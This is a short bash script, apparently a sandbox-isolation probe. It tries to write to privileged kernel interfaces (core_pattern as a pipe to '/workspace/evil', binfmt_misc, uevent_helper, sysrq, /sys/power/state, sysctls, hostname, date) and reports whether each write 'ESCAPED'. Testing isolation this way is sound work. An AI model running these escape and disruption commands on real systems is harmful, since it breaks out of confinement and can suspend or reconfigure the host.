attempt() { local what=$1; shift; if "$@" > /dev/null 2>&1 < /dev/null; then echo "ESCAPED: $what"; else echo "held: $what"; fi; }
for setting in kernel/core_pattern kernel/hostname kernel/modprobe vm/drop_caches vm/overcommit_memory net/ipv4/ip_forward kernel/randomize_va_space fs/file-max; do
  attempt "$setting" sh -c "cat /proc/sys/$setting > /tmp/value 2>/dev/null || echo 1 > /tmp/value; cat /tmp/value > /proc/sys/$setting"
done
attempt core_pattern sh -c 'echo "|/workspace/evil" > /proc/sys/kernel/core_pattern'
attempt sysrq sh -c 'echo h > /proc/sysrq-trigger'
attempt binfmt sh -c 'echo :x:M::x::/workspace/x: > /proc/sys/fs/binfmt_misc/register'
attempt uevent_helper sh -c 'echo /workspace/evil > /sys/kernel/uevent_helper'
attempt "sys power" sh -c 'echo mem > /sys/power/state'
attempt hostname hostname evil
attempt date date -s 2001-01-01
